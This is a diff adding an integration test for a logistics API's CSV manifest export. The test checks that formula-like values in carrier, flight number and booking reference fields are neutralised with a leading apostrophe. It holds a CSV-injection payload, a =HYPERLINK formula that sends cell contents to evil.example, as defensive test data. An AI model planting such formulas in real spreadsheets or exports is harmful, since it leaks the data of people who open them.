@@ -144,4 +144,13 @@ describe('logistics travel segments and manifests (real Postgres, real Kafka)', 
     await request(baseUrl()).get(`/api/logistics/delegations/${d}/segments`).expect(401);
     await as(t.coordinator).get(`/segments/${randomUUID()}`).expect(404);
   });
+
+  it('prints a carrier, flight number or booking reference that a spreadsheet would run as a formula inert in the manifest CSV', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
+    await as(t.coordinator).post('/segments', flight({ from: 'HNL', to: 'SYD', direction: 'departure', departureLocal: '2027-04-20T09:00', arrivalLocal: '2027-04-21T17:00',
+      carrier: formula, number: '+1', status: 'booked', bookingReference: '@SUM(A1)', memberIds: [people.chen.memberId] })).expect(201);
+    const csv = (await as(t.coordinator).get('/manifests/departures?format=csv').expect(200)).text;
+    const row = csv.split('\n').find((l) => l.includes('SYD'))!;
+    expect(row).toContain(`,flight,"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",'+1,HNL,SYD,booked,'@SUM(A1),Chen Jie`);
+  });
 });
